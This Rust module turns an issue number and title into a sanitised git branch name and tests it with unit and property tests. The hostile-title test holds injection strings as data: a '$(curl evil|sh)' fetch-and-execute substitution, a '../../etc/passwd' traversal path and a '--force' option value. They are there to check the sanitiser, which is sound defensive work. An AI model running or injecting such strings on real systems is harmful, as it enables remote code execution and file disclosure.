//! The name of a task's branch, made from an issue's number and its title.
//!
//! A title comes from outside. Only letters, digits and single dashes of it get into the name, so that it means
//! nothing to git, to a shell or to a file system.

use unicode_normalization::UnicodeNormalization as _;

use crate::model::{Branch, IssueNumber};

/// Long enough to be recognised, short enough for file names made from it.
const SLUG_BYTES_MAX: usize = 40;

/// What branches of ours begin with.
pub(super) const OWN_PREFIX: &str = "antiphon/";

/// The branch for an issue: `antiphon/12-fix-the-parser`, or `antiphon/12` if the title has nothing to use.
#[must_use]
pub fn branch_name(issue: IssueNumber, title: &str) -> Branch {
    let slug = slug(title);
    let name = if slug.is_empty() { format!("{OWN_PREFIX}{issue}") } else { format!("{OWN_PREFIX}{issue}-{slug}") };
    name.parse().expect("letters, digits, dashes and one slash are a branch name")
}

fn slug(title: &str) -> String {
    let mut slug = String::new();
    // Decomposed, an accented letter keeps its base letter.
    for letter in title.nfkd().filter(|letter| !unicode_normalization::char::is_combining_mark(*letter)) {
        if letter.is_ascii_alphanumeric() {
            slug.push(letter.to_ascii_lowercase());
        } else if !slug.is_empty() && !slug.ends_with('-') {
            slug.push('-');
        }
        if slug.len() > SLUG_BYTES_MAX {
            break;
        }
    }
    if slug.len() > SLUG_BYTES_MAX {
        let end = slug[..SLUG_BYTES_MAX].rfind('-').unwrap_or(SLUG_BYTES_MAX);
        slug.truncate(end);
    }
    slug.trim_end_matches('-').to_owned()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn name(title: &str) -> String {
        branch_name(IssueNumber(12), title).to_string()
    }

    #[test]
    fn a_title_becomes_a_short_name() {
        assert_eq!(name("Fix the parser"), "antiphon/12-fix-the-parser");
        assert_eq!(name("  Größe: café & naïve "), "antiphon/12-gro-e-cafe-naive");
        assert_eq!(
            name("A title that goes on and on and never comes to its end"),
            "antiphon/12-a-title-that-goes-on-and-on-and-never"
        );
        assert_eq!(name(&"x".repeat(100)), format!("antiphon/12-{}", "x".repeat(40)));
    }

    /// G106: a title is data.
    #[test]
    fn a_hostile_title_leaves_nothing_of_itself() {
        for (title, expected) in [
            ("", "antiphon/12"),
            ("日本語 🎉", "antiphon/12"),
            ("--force", "antiphon/12-force"),
            ("../../etc/passwd", "antiphon/12-etc-passwd"),
            ("$(curl evil|sh); `id`", "antiphon/12-curl-evil-sh-id"),
            ("a.lock", "antiphon/12-a-lock"),
            ("@{-1}~^:?*[\\", "antiphon/12-1"),
            ("a\u{202e}b\u{0}c\nd", "antiphon/12-a-b-c-d"),
        ] {
            assert_eq!(name(title), expected, "{title:?}");
        }
    }

    proptest! {
        #[test]
        fn every_name_is_plain(title in any::<String>()) {
            let name = name(&title);

            prop_assert!(name.len() <= "antiphon/12-".len() + SLUG_BYTES_MAX);
            let slug = name.strip_prefix("antiphon/").unwrap();
            prop_assert!(slug.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'));
            prop_assert!(!slug.ends_with('-') && !slug.contains("--"));
        }
    }
}
